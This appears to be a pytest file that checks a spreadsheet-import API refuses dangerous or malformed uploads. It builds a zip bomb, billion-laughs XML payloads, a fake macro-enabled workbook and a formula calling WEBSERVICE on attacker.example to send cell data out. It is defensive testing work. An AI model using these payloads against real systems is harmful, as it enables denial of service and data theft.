"""What people send: every bad file is refused with a sentence a reviewer understands (422),
and nothing is written. Each file is made here, with openpyxl and zipfile."""

from __future__ import annotations

import pytest
from fastapi.testclient import TestClient
from sqlmodel import Session, select

from scr.chronology.models import ChronologyColumns, ChronologyEntry
from tests.api.test_chronology_import import send
from tests.factories import make_review
from tests.scr.chronology.files import parts_of, police_workbook, workbook, zipped

LAUGHS = (
    '<?xml version="1.0"?>'
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    + ']><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    "<si><t>&lol9;</t></si></sst>"
)


def _with(data: bytes, **changes: bytes | str) -> bytes:
    parts: dict[str, bytes | str] = dict(parts_of(data))
    parts.update({k.replace("__", "/").replace("_dot_", "."): v for k, v in changes.items()})
    return zipped(parts)


def _zip_bomb() -> bytes:
    # 5 MB of spaces packs into a few kilobytes: far beyond any sheet's compression ratio.
    parts: dict[str, bytes | str] = dict(parts_of(police_workbook()))
    parts["xl/worksheets/sheet1.xml"] = b" " * 5_000_000
    return zipped(parts)


def _billion_laughs(padding: int = 0) -> bytes:
    parts: dict[str, bytes | str] = dict(parts_of(workbook([["Date", "Summary"], ["2019", "x"]])))
    # A long comment before the DOCTYPE gets it past the first look; defusedxml still stops it.
    body = LAUGHS.replace("?>", "?><!--" + "x" * padding + "-->", 1)
    names = [n for n in parts if n.endswith("sheet1.xml")]
    parts[names[0]] = body
    return zipped(parts)


def _macro_enabled() -> bytes:
    parts: dict[str, bytes | str] = dict(parts_of(police_workbook()))
    parts["xl/vbaProject.bin"] = b'\xd0\xcf\x11\xe0 Attribute VB_Name = "Module1"'
    return zipped(parts)


def _macro_content_type() -> bytes:
    parts: dict[str, bytes | str] = dict(parts_of(police_workbook()))
    types = parts["[Content_Types].xml"]
    assert isinstance(types, bytes)
    parts["[Content_Types].xml"] = types.replace(
        b"spreadsheetml.sheet.main+xml", b"sheet.macroEnabled.main+xml"
    )
    return zipped(parts)


def _password_protected() -> bytes:
    # An encrypted workbook is an OLE compound file with an EncryptionInfo stream.
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
    directory = "EncryptionInfo".encode("utf-16-le") + b"\x00" * 50
    return header + directory + "EncryptedPackage".encode("utf-16-le") + b"\x00" * 1000


def _too_many_sheets() -> bytes:
    return workbook([["Date", "Summary"]], **{f"Sheet {i}": [["x"]] for i in range(60)})


BAD_FILES = {
    "a zip bomb": (_zip_bomb(), "chronology.xlsx", "zip bomb"),
    "a billion laughs": (_billion_laughs(), "chronology.xlsx", "billion laughs"),
    "a billion laughs behind a comment": (
        _billion_laughs(padding=6000),
        "chronology.xlsx",
        "not safe to read",
    ),
    "a macro-enabled workbook": (_macro_enabled(), "chronology.xlsm", "macro-enabled"),
    "a macro-enabled content type": (_macro_content_type(), "c.xlsx", "macro-enabled"),
    "a password-protected workbook": (_password_protected(), "c.xlsx", "password"),
    "an Excel 97-2003 workbook": (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 2000,
        "c.xls",
        "97-2003",
    ),
    "a PDF called .xlsx": (b"%PDF-1.7\n%fictional\n", "chronology.xlsx", "PDF document"),
    "CSV text called .xlsx": (b"Date,Summary\n2019,Seen\n", "chronology.xlsx", "not an Excel"),
    "a workbook called .csv": (police_workbook(), "chronology.csv", "is called CSV"),
    "a Word document called .xlsx": (
        zipped({"word/document.xml": "<w:document/>", "[Content_Types].xml": "<Types/>"}),
        "chronology.xlsx",
        "not an Excel workbook",
    ),
    "an OpenDocument spreadsheet": (
        zipped({"mimetype": "application/vnd.oasis.opendocument.spreadsheet"}, compress=False),
        "chronology.ods",
        ".ods",
    ),
    "a damaged workbook": (police_workbook()[:2000], "chronology.xlsx", "damaged"),
    "a binary file called .csv": (
        b"\x00\x01\x02binary" * 20,
        "chronology.csv",
        "not a spreadsheet",
    ),
    "an empty sheet": (workbook([]), "chronology.xlsx", "sheets are empty"),
    "an empty CSV": (b"\r\n \r\n", "chronology.csv", "is empty"),
    "a header and no rows": (workbook([["Date", "Summary"]]), "c.xlsx", "no rows under it"),
    "a header with no date column": (
        workbook([["Name", "Notes"], ["Child T", "Seen"]]),
        "c.xlsx",
        "no date column",
    ),
    "too many sheets": (_too_many_sheets(), "c.xlsx", "at most 50"),
    "too many rows": (
        ("Date,Summary\n" + "2019,Seen at home\n" * 20_001).encode(),
        "c.csv",
        "at most 20,000",
    ),
    "too many columns": (
        ("Date,Summary" + ",x" * 70 + "\n2019,Seen\n").encode(),
        "c.csv",
        "more than 60 columns",
    ),
    "too large a file": (b"Date,Summary\n" + b"2019," + b"y" * 10_000_000, "c.csv", "bytes"),
    "a cell far too long for CSV": (
        ("Date,Summary\n2019," + "y" * 100_000 + "\n").encode(),
        "c.csv",
        "could not be read as CSV",
    ),
}


@pytest.mark.parametrize("kind", list(BAD_FILES))
def test_a_bad_file_is_refused_in_a_sentence_and_nothing_is_written(
    client: TestClient, session: Session, kind: str
) -> None:
    data, name, words = BAD_FILES[kind]
    review = make_review(session)
    answer = send(client, review, data, name, commit=True)
    assert answer.status_code == 422, answer.text
    detail = answer.json()["detail"]
    assert words in detail
    assert detail.endswith("Nothing was imported.") or "nothing was imported" in detail
    session.expire_all()
    assert (
        session.exec(select(ChronologyEntry).where(ChronologyEntry.review_id == review.id)).all()
        == []
    )
    assert session.exec(select(ChronologyColumns)).all() == []


def test_a_cell_longer_than_an_entry_holds_refuses_its_row(
    client: TestClient, session: Session
) -> None:
    review = make_review(session)
    data = workbook([["Date", "Summary"], ["2019", "y" * 20_001], ["2019", "Seen."]])
    report = send(client, review, data).json()
    assert report["rows"][0]["outcome"] == "refused"
    assert "at most 20000 characters" in report["rows"][0]["reason"]
    assert send(client, review, data, commit=True).status_code == 422


def test_formulas_are_read_as_their_cached_values_never_evaluated(
    client: TestClient, session: Session
) -> None:
    review = make_review(session)
    parts: dict[str, bytes | str] = dict(parts_of(workbook([["Date", "Summary"], ["2019", "x"]])))
    sheet = next(n for n in parts if n.endswith("sheet1.xml"))
    body = parts[sheet]
    assert isinstance(body, bytes)
    formula = (
        b'<c r="B2" t="str"><f>WEBSERVICE("http://attacker.example/"&amp;A1)</f>'
        b"<v>Seen at home (cached).</v></c>"
    )
    start = body.index(b'<c r="B2"')
    end = body.index(b"</c>", start) + 4
    parts[sheet] = body[:start] + formula + body[end:]
    report = send(client, review, zipped(parts)).json()
    assert report["rows"][0]["summary"] == "Seen at home (cached)."
